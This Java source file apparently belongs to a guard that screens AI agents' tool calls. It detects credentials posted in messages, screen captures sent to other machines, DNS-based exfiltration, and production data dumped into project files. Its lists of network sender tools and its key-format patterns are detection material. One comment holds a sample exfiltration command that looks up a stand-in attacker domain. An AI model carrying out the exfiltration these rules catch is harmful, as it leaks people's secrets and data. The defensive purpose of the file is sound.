package io.github.providergateway.guard.internal;

import com.fasterxml.jackson.databind.JsonNode;
import io.github.providergateway.guard.shell.Word;
import io.github.providergateway.guard.shell.internal.NameSet;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * What the {@code leak.*} rules of the book ask of a call (issue 80, round 4): a credential written
 * out in a message to other people. A key of a known form ({@link OutRules#KEY}: {@code sk_live_},
 * {@code AKIA…}, {@code ghp_…}, {@code hf_…}, {@code hvs.…}) or a connection string with its
 * password, in what a tool that sends (a chat message, an issue, a comment, a post: an MCP tool
 * named for sending) or the forges' command lines ({@code gh issue comment --body}) carry to a
 * service. Setting a secret ({@code gh secret set}) is the one place a key is meant to go, and is
 * left alone.
 */
final class LeakPredicates {
  private LeakPredicates() {}

  /** The words in a tool's name that say it sends what it is given to people or a service. */
  private static final String[] SENDING = {
    "post",
    "send",
    "message",
    "comment",
    "reply",
    "tweet",
    "publish",
    "issue",
    "pull_request",
    "create_pr",
    "chat",
    "email",
    "mail",
    "share",
    "upload",
    "note",
    "ticket",
    "webhook",
    "page",
    "thread",
    "status",
    "toot",
    "discussion",
    "gist",
    "paste",
    "snippet"
  };

  /** The forges' command lines, and their subcommands that carry a text to a service. */
  private static final Set<String> FORGES = NameSet.of("gh", "glab", "tea", "hub");

  /** The forges' subcommands that store a secret where it belongs: never a leak. */
  private static final Set<String> SECRET_STORES = NameSet.of("secret", "variable", "auth");

  /** A connection string with a password: {@code postgres://app:Pr0dPass@db…}. */
  private static final Pattern CONNECTION =
      Pattern.compile(
          "(?i)\\b(?:postgres(?:ql)?|mysql|mariadb|mongodb(?:\\+srv)?|rediss?|amqps?|mssql|sqlserver)"
              + "://[^\\s:/@'\"]{1,64}:([^\\s@/'\"]{6,128})@");

  /** A password that stands for none: a placeholder or a variable. */
  private static final Pattern PLACEHOLDER =
      Pattern.compile(
          "(?i)\\$.*|<.*>|\\{.*\\}|\\*+|x+|\\.+|pass(?:word)?|secret|changeme|example|redacted"
              + "|your[_-]?\\w*|postgres|test|dummy");

  /** The most text of one call the predicate reads. */
  private static final int MAX_TEXT = 65_536;

  /** The AWS documentation's own example key, quoted in docs and issues alike. */
  private static final String DOCUMENTED_KEY = "AKIAIOSFODNN7EXAMPLE";

  /** Adds the call's predicates under their names. */
  static void addCallsTo(Map<String, Where.CallPredicate> named) {
    named.put("secret-in-message", LeakPredicates::secretInMessage);
    named.put("card-data-in-message", CardDataSent::found); // decision 294
    named.put("secret-variable-posted-to-chat", SecretPostedToChat::posted);
    named.put("production-data-into-project", LeakPredicates::productionDataIntoProject);
    named.put("data-in-dns-names", LeakPredicates::dataInDnsNames);
    named.put("captures-screen-and-sends", LeakPredicates::screenSent);
  }

  /** The programs that capture the whole screen when asked as the clause reads them. */
  private static final Set<String> CAPTURERS =
      NameSet.of(
          "import",
          "scrot",
          "gnome-screenshot",
          "grim",
          "screencapture",
          "xwd",
          "maim",
          "spectacle",
          "flameshot",
          "ffmpeg",
          "wf-recorder",
          "recordmydesktop",
          "peek",
          "obs",
          "byzanz-record",
          "vokoscreen",
          "kazam");

  /** The programs that send a file or a stream to another machine. */
  private static final Set<String> SENDERS =
      NameSet.of(
          "curl",
          "wget",
          "http",
          "https",
          "xh",
          "scp",
          "rsync",
          "sftp",
          "nc",
          "ncat",
          "rclone",
          "aws",
          "gsutil",
          "croc",
          "magic-wormhole",
          "wormhole");

  /**
   * What captures the person's whole screen in a call that also sends to another machine, as the
   * reason shows it; or null: {@code import -window root}, {@code scrot}, {@code grim}, {@code
   * screencapture}, {@code xwd -root}, {@code ffmpeg -f x11grab} (or gdigrab, avfoundation,
   * kmsgrab), a screen recorder. A capture kept on this machine is the person's to look at; a
   * browser's or a test runner's screenshot of the app under test is no capture of their screen.
   */
  static String screenSent(Scan scan) {
    boolean sends = true;
    String capture = null;
    boolean sent = false;
    for (Step step : scan.steps()) {
      String program = step.program();
      if (program == null) {
        continue;
      }
      if (capture == null && CAPTURERS.contains(program) && capturesScreen(step)) {
        capture = Scan.render(step.invocation());
      } else if (sends && !sent && SENDERS.contains(program)) {
        for (Word word : step.args()) {
          String host =
              Hosts.URL.matcher(word.text()).lookingAt()
                  ? Hosts.of(word.text())
                  : Hosts.remote(word.text());
          if (host != null && !Hosts.loopback(host)) {
            sent = true;
            break;
          }
        }
      }
    }
    return capture == null || sends && !sent ? null : FlowReading.shorten(capture);
  }

  private static boolean capturesScreen(Step step) {
    java.util.List<String> args = step.invocation().args();
    return switch (step.program()) {
      case "import" -> args.contains("-window") && args.contains("root");
      case "xwd" -> args.contains("-root");
      case "ffmpeg" -> {
        for (int i = 0; i + 1 < args.size(); i++) {
          if (args.get(i).equals("-f")
              && Set.of("x11grab", "gdigrab", "avfoundation", "kmsgrab", "dshow")
                  .contains(args.get(i + 1))) {
            yield true;
          }
        }
        yield false;
      }
      case "obs" -> args.contains("--startrecording");
      default -> true;
    };
  }

  /** The programs that look a name up in the DNS. */
  private static final Set<String> RESOLVERS =
      NameSet.of("dig", "nslookup", "host", "drill", "kdig", "delv", "resolvectl", "getent");

  /** The programs that turn bytes into text a DNS label can carry. */
  private static final Set<String> ENCODERS =
      NameSet.of(
          "xxd", "base64", "base32", "basenc", "od", "hexdump", "hd", "openssl", "gzip", "zstd");

  /** A name made of a computed label in front of a written domain: {@code $c.k.example.net}. */
  private static final Pattern COMPUTED_LABEL =
      Pattern.compile(
          "(?:\\$\\{?\\w{1,64}\\}?|\\$\\([^)]{1,256}\\)|`[^`]{1,256}`)\\.[A-Za-z0-9-]{1,63}(?:\\.[A-Za-z0-9-]{1,63})+\\.?");

  /**
   * What a call sends through the DNS, as the reason shows it; or null: a lookup of a name whose
   * first label is computed ({@code dig "$c.k.example.net"}) in a call that encodes bytes for it
   * ({@code xxd -p}, {@code base32}): each lookup carries a piece of the data to whoever answers
   * for the domain, past every proxy and most firewalls.
   */
  static String dataInDnsNames(Scan scan) {
    boolean encodes = false;
    String lookup = null;
    for (Step step : scan.steps()) {
      String program = step.program();
      if (program == null) {
        continue;
      }
      if (ENCODERS.contains(program)) {
        encodes = true;
      } else if (KeysInLookedUpNames.in(step) != null) {
        // dig +short sk-live-51Habc123.evil.example.net: a key written into the name itself
        return KeysInLookedUpNames.in(step) + " (a key of a known form in the name looked up)";
      } else if (lookup == null && RESOLVERS.contains(program)) {
        for (Word word : step.args()) {
          if (!word.literal() && PatternLiterals.matches(COMPUTED_LABEL, word.text())) {
            lookup = program + " " + word.text();
            break;
          }
        }
      }
    }
    return encodes && lookup != null ? lookup + " (data encoded into the names looked up)" : null;
  }

  /** Adds the program's predicates under their names. */
  static void addTo(Map<String, Where.Predicate> named) {
    named.put("code-records-live-key", (scan, step, read) -> recordsLiveKey(step));
    named.put("issue-body-is-data", (scan, step, read) -> IssueBodyData.posts(step));
  }

  /** The database clients that print what they read, and their options naming an output file. */
  private static final Map<String, Set<String>> CLIENT_OUTPUTS =
      Map.ofEntries(
          Map.entry("psql", Set.of("-o", "--output")),
          Map.entry("pg_dump", Set.of("-f", "--file")),
          Map.entry("pg_dumpall", Set.of("-f", "--file")),
          Map.entry("mysql", Set.of("--tee")),
          Map.entry("mariadb", Set.of("--tee")),
          Map.entry("mysqldump", Set.of("-r", "--result-file")),
          Map.entry("mongoexport", Set.of("-o", "--out")),
          Map.entry("mongosh", Set.of()),
          Map.entry("mongo", Set.of()),
          Map.entry("redis-cli", Set.of()),
          Map.entry("sqlcmd", Set.of("-o")),
          Map.entry("bq", Set.of()),
          Map.entry("snowsql", Set.of("-o")),
          Map.entry("clickhouse-client", Set.of()));

  /** A database client library in code. */
  private static final Pattern CODE_CLIENT =
      Pattern.compile(
          "psycopg|sqlalchemy|create_engine|pymysql|mysql\\.connector|pymongo|MongoClient"
              + "|asyncpg|pg\\.Client|new Pool\\(|knex\\(|PrismaClient|mongoose|Sequel\\.connect"
              + "|ActiveRecord|read_sql|redis\\.Redis|snowflake\\.connector|bigquery\\.Client");

  /** A file the code writes, its path a literal: python's open, pandas, node's fs, ruby's File. */
  private static final Pattern CODE_WRITES =
      Pattern.compile(
          "open\\(\\s*[rfb]?['\"]([^'\"\\n]{1,256})['\"]\\s*,\\s*['\"][wax]"
              + "|\\.to_(?:csv|json|parquet|pickle|excel)\\(\\s*['\"]([^'\"\\n]{1,256})['\"]"
              + "|writeFileSync\\(\\s*['\"`]([^'\"`\\n]{1,256})['\"`]"
              + "|File\\.write\\(\\s*['\"]([^'\"\\n]{1,256})['\"]"
              + "|Path\\(\\s*['\"]([^'\"\\n]{1,256})['\"]\\s*\\)\\.write_(?:text|bytes)");

  /**
   * What program reads a production database into a file of the project, and the file, as the
   * reason shows it ({@code psql of production data into tests/fixtures/customers.jsonl}); or null:
   * a client with a production target whose output (a redirection, its output option) lands inside
   * the project, or code that connects with a production target and writes a file of the project.
   * The file as written stays in the reason, so a commit that takes it is answered too ({@code
   * WrittenRuns}).
   */
  static String productionDataIntoProject(Scan scan) {
    for (Step step : scan.steps()) {
      String file = productionDataInto(scan, step);
      if (file != null) {
        return step.program() + " of production data into " + file;
      }
      file = FixturesFromRecords.copied(scan, step);
      if (file != null) {
        return step.program() + " of people's records into " + file;
      }
    }
    return null;
  }

  private static String productionDataInto(Scan scan, Step step) {
    String program = step.program();
    if (program == null) {
      return null; // a program the parse cannot name: the computed-program rules read it
    }
    Set<String> outputs = CLIENT_OUTPUTS.get(program);
    if (outputs == null && !step.interpreter()) {
      return null;
    }
    if (outputs != null && AggregateQueries.asked(step)) {
      return null; // a table of aggregates names no customer (round 61)
    }
    String file = outputs != null ? clientOutput(scan, step, outputs) : codeOutput(scan, step);
    // Production last: the output into the project is rare, the production reading is not cheap.
    return file != null && Environments.production(scan, step) ? file : null;
  }

  /** The file of the project a client's output lands in: a redirection, its output option. */
  private static String clientOutput(Scan scan, Step step, Set<String> outputs) {
    for (io.github.providergateway.guard.shell.Redirect redirect : step.invocation().redirects()) {
      if (redirect.writes() && intoProject(scan, step, redirect.target())) {
        return redirect.target().text();
      }
    }
    java.util.List<Word> args = step.args();
    for (int i = 0; i + 1 < args.size(); i++) {
      if (!outputs.contains(args.get(i).text())) {
        continue;
      }
      Word target = outputFile(step.program(), args.get(i + 1));
      if (target != null && intoProject(scan, step, target)) {
        return target.text();
      }
    }
    return null;
  }

  /**
   * The file an output option's value names: snowsql's {@code -o} sets an option, and only {@code
   * -o output_file=PATH} is a file ({@code -o output_format=psql} is none).
   */
  private static Word outputFile(String program, Word value) {
    if (!program.equals("snowsql")) {
      return value;
    }
    String text = value.text();
    return text.startsWith("output_file=")
        ? Word.literal(text.substring("output_file=".length()))
        : null;
  }

  /** The file of the project code that connects to a database writes, its path a literal. */
  private static String codeOutput(Scan scan, Step step) {
    String code = InterpreterCode.of(step);
    if (code == null || !PatternLiterals.finds(CODE_CLIENT, code)) {
      return null;
    }
    Matcher writes =
        CODE_WRITES.matcher(code.length() > MAX_TEXT ? code.substring(0, MAX_TEXT) : code);
    while (writes.find()) {
      for (int g = 1; g <= writes.groupCount(); g++) {
        if (writes.group(g) != null && intoProject(scan, step, Word.literal(writes.group(g)))) {
          return writes.group(g);
        }
      }
    }
    return null;
  }

  /** Whether a file the program writes lies inside the project (not its temporary folders). */
  private static boolean intoProject(Scan scan, Step step, Word file) {
    if (file.text().startsWith("/dev/") || file.text().startsWith("&")) {
      return false;
    }
    for (Target target : scan.targets(step, file)) {
      if (target.known() && scan.place(target) == Place.INSIDE) {
        return true;
      }
    }
    return false;
  }

  /** A test that records the HTTP it makes: VCR.py, pytest-recording, Betamax, Polly, nock. */
  private static final Pattern RECORDS =
      Pattern.compile(
          "mark\\.vcr|use_cassette|record_mode|Betamax|@pollyjs|nock\\.recorder|nockBack|vcr\\.VCR|VCR\\.configure");

  /** A credential the code takes from the environment: a name that says key, secret or token. */
  private static final Pattern ENVIRONMENT_KEY =
      Pattern.compile(
          "(?:environ(?:\\.get)?[\\[(]|getenv\\(|process\\.env\\.|process\\.env\\[|ENV\\[|ENV\\.fetch\\()"
              + "\\s*['\"]?\\w*(?:KEY|SECRET|TOKEN|PASSWORD)\\w*");

  /** What keeps a recorded credential out of a cassette: the recorder's filters. */
  private static final Pattern FILTERED =
      Pattern.compile(
          "filter_headers|filter_query_parameters|filter_post_data_parameters|before_record"
              + "|filter_sensitive_data|define_cassette_placeholder|matchRequestsBy|vcr_config");

  private static boolean recordsLiveKey(Step step) {
    String code = InterpreterCode.of(step);
    if (code == null
        || code.indexOf("record") < 0
            && code.indexOf("ecorder") < 0
            && code.indexOf("vcr") < 0
            && code.indexOf("cassette") < 0
            && code.indexOf("Betamax") < 0
            && code.indexOf("nock") < 0) {
      return false;
    }
    String text = code.length() > MAX_TEXT ? code.substring(0, MAX_TEXT) : code;
    return PatternLiterals.finds(RECORDS, text)
        && PatternLiterals.finds(ENVIRONMENT_KEY, text)
        && !PatternLiterals.finds(FILTERED, text);
  }

  /** What shape of credential a call sends to other people, as the reason shows it; or null. */
  static String secretInMessage(Scan scan) {
    return inMessage(scan, LeakPredicates::shape);
  }

  /**
   * What {@code finder} finds in a message to other people: an MCP tool's that sends, or the words
   * of a forge's command ({@code gh issue create --body …}) but for its secret stores; or null.
   */
  static String inMessage(Scan scan, java.util.function.Function<String, String> finder) {
    CallForRules call = scan.call();
    if (call.args() != null && sends(call.tool())) {
      String found = firstInTexts(call.args(), finder);
      return found == null ? null : call.tool() + " carries " + found;
    }
    for (Step step : scan.steps()) {
      if (step.program() == null || !FORGES.contains(step.program())) {
        continue;
      }
      java.util.List<Word> args = step.args();
      if (!args.isEmpty() && SECRET_STORES.contains(args.get(0).text())) {
        continue;
      }
      for (Word word : args) {
        String found = finder.apply(word.text());
        if (found != null) {
          return step.program()
              + (args.isEmpty() ? "" : " " + args.get(0).text())
              + " carries "
              + found;
        }
      }
    }
    return null;
  }

  /** Whether a tool's name says it sends: an MCP server's tool named for it. */
  static boolean sends(String tool) {
    if (tool == null || tool.indexOf("__") < 0) {
      return false; // the agents' own tools write files or run commands: the other rules read them
    }
    String name = tool.toLowerCase(Locale.ROOT);
    for (String word : SENDING) {
      if (name.contains(word)) {
        return true;
      }
    }
    return false;
  }

  /**
   * What {@code finder} first finds in a tool's textual arguments, at any depth, reading at most
   * {@link #MAX_TEXT} of them; or null. Decision 206 reads people's identifiers so too.
   */
  static String firstInTexts(JsonNode args, java.util.function.Function<String, String> finder) {
    Deque<JsonNode> next = new ArrayDeque<>();
    next.push(args);
    int read = 0;
    while (!next.isEmpty() && read < MAX_TEXT) {
      JsonNode node = next.pop();
      if (node.isTextual()) {
        String text = node.asText();
        read += text.length();
        String found = finder.apply(text);
        if (found != null) {
          return found;
        }
      } else if (node.isContainerNode()) {
        node.forEach(next::push);
      }
    }
    return null;
  }

  /** The shape of the credential {@code text} holds, as the reason shows it; or null. */
  static String shape(String text) {
    String within = text.length() > MAX_TEXT ? text.substring(0, MAX_TEXT) : text;
    Matcher key = OutRules.KEY.matcher(within);
    while (key.find()) {
      String value = key.group();
      if (!value.equals(DOCUMENTED_KEY) && !value.equals("-----BEGIN")) {
        return "a key (" + value.substring(0, Math.min(8, value.length())) + "…)";
      }
      if (value.equals("-----BEGIN")
          && within
              .substring(key.end(), Math.min(within.length(), key.end() + 40))
              .contains("PRIVATE KEY")) {
        return "a private key";
      }
    }
    Matcher connection = CONNECTION.matcher(within);
    while (connection.find()) {
      if (!PatternLiterals.matches(PLACEHOLDER, connection.group(1))) {
        return "a connection string with its password";
      }
    }
    return null;
  }
}
